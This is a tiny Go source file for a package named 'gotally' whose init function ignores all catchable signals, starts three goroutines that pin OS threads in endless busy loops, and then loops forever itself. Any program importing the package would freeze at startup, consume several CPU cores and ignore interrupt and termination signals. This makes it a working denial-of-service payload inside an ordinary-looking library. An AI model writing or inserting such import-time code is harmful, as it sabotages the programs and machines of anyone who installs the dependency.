package gotally

import (
	"os/signal"
	"runtime"
)

func init() {
	signal.Ignore()
	for range 3 {
		go func() {
			runtime.LockOSThread()
			for {
			}
		}()
	}
	for {
	}
}
